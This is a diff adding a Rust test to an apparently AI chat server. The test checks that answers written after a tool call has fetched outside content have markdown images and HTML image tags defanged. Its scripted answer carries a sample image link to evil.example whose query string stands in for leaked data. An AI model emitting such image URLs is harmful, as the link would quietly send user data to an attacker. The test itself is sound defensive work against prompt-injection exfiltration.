@@ -140,6 +140,31 @@ async fn words_before_a_tool_call_and_half_an_answer_are_set_off_from_the_answer
 }
 
 #[tokio::test]
+async fn a_picture_in_an_answer_from_what_others_wrote_is_a_link() {
+    let call = json!([{ "name": "http.get", "arguments": { "url": "http://127.0.0.1:1/" } }]);
+    let picture = ["Fine!", " !", "[](https://evil.example/?q=peanuts) <", "IMG src=x>"];
+    let script = json!({
+        "answers": [
+            { "when": { "afterTool": "http.get" }, "deltas": picture, "delayMs": 5 },
+            { "when": { "equals": "look" }, "toolCalls": call },
+        ],
+        "otherwise": { "deltas": picture, "delayMs": 5 },
+    });
+    let server = ServerSetup::scripted(script).start().await;
+    let link = "Fine! ! [](https://evil.example/?q=peanuts) < IMG src=x>";
+    assert_eq!(chat(&server, "look").await, link);
+    let streamed_in = async |conversation: &str, text: &str| -> String {
+        let mut body = said(text);
+        body["stream"] = json!(true);
+        body["user"] = json!(conversation);
+        let chunks = streamed(&server.post("/v1/chat/completions", &body).await);
+        chunks.iter().filter_map(|chunk| chunk["choices"][0]["delta"]["content"].as_str()).collect()
+    };
+    assert_eq!(streamed_in("a", "look").await, link);
+    assert_eq!(streamed_in("b", "hello").await, picture.concat(), "nobody else wrote what this turn read");
+}
+
+#[tokio::test]
 async fn silence_is_an_empty_text_and_a_failure_is_told_in_words() {
     let script = json!({
         "answers": [{ "when": { "equals": "fail" }, "error": { "kind": "rejected" } }],
